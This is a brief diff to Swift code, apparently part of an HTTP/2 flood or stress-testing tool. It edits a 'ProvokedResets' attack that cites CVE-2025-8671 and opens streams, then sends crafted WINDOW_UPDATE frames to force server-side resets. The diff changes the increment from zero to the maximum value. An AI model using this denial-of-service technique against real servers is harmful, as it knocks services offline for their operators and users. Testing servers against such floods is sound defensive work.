@@ -1,4 +1,5 @@
-/// Opens streams and makes the server reset them, by a window update of nothing (CVE-2025-8671).
+/// Opens streams and makes the server reset them, by a window that no number can hold
+/// (CVE-2025-8671).
 package struct ProvokedResets: Flood {
   private let call: FloodCall
 
@@ -12,7 +13,7 @@ package struct ProvokedResets: Flood {
       let stream = RawFrame.stream(number)
       return call.headers(stream: stream)
         + RawFrame.frame(
-          type: RawFrame.windowUpdate, flags: 0, stream: stream, RawFrame.bigEndian(0))
+          type: RawFrame.windowUpdate, flags: 0, stream: stream, RawFrame.bigEndian(0x7FFF_FFFF))
     }
   }
 }
